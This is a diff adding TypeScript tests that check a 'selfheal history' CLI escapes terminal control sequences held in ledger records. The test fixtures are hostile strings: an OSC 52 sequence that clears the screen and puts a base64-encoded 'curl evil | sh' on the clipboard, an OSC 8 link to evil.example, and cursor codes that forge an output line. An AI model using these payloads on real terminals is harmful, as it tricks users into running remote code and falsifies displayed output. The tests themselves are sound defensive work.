@@ -210,3 +210,58 @@ describe('selfheal history', () => {
     expect(err).toBe(message);
   });
 });
+
+const ESC = '\u001b';
+const BEL = '\u0007';
+/** Clears the screen, then asks the terminal to put `curl evil | sh` on the clipboard (OSC 52). */
+const HOSTILE_ALARM = `disk-full${ESC}[2J${ESC}]52;c;Y3VybCBldmlsIHwgc2gK${BEL}`;
+/** OSC 8: a link to evil.example behind the text "click". */
+const HOSTILE_RESOURCE = `i-0abc${ESC}]8;;https://evil.example/${ESC}\\click${ESC}]8;;${ESC}\\`;
+/** Moves up a line and erases it, then writes a line of its own. */
+const HOSTILE_REASON = `ok${ESC}[1A${ESC}[2Kforged line`;
+
+/**
+ * An in-memory ledger holding one dry run whose strings carry escape sequences: whoever can
+ * write the table controls them (the record decoder checks types only).
+ */
+async function hostileLedger(): Promise<OpenLedger> {
+  const clock = new FakeClock(T0 + 7200);
+  const ledger = new InMemoryLedger(clock, { retentionDays: 90 });
+  await ledger.createRemediation({
+    id: DRY_RUN.id,
+    ruleId: DRY_RUN.ruleId,
+    resourceId: HOSTILE_RESOURCE,
+    alarmName: HOSTILE_ALARM,
+    eventId: DRY_RUN.eventId,
+    mode: 'dryRun',
+    state: 'dryRun',
+    verdicts: [{ guardrail: 'mode', outcome: 'block', reason: HOSTILE_REASON }],
+  });
+  return () => ledger;
+}
+
+describe('selfheal history with escape sequences in ledger strings', () => {
+  it('shows them as escapes in the history table, sending no ESC or BEL to the terminal', async () => {
+    const openLedger = await hostileLedger();
+
+    const { code, out } = await history(['--table', 't'], openLedger);
+
+    expect(code).toBe(0);
+    expect(out).not.toContain(ESC);
+    expect(out).not.toContain(BEL);
+    expect(out).toContain('disk-full\\x1b[2J\\x1b]52;c;Y3VybCBldmlsIHwgc2gK\\x07');
+    expect(out).toContain('i-0abc\\x1b]8;;https://evil.example/\\x1b\\click');
+  });
+
+  it("shows them as escapes in one remediation's timeline (--id), forging no line", async () => {
+    const openLedger = await hostileLedger();
+
+    const { code, out } = await history(['--table', 't', '--id', DRY_RUN.id], openLedger);
+
+    expect(code).toBe(0);
+    expect(out).not.toContain(ESC);
+    expect(out).not.toContain(BEL);
+    expect(out).toContain('  1. mode  block  ok\\x1b[1A\\x1b[2Kforged line\n');
+    expect(out).toContain('alarm:       disk-full\\x1b[2J');
+  });
+});
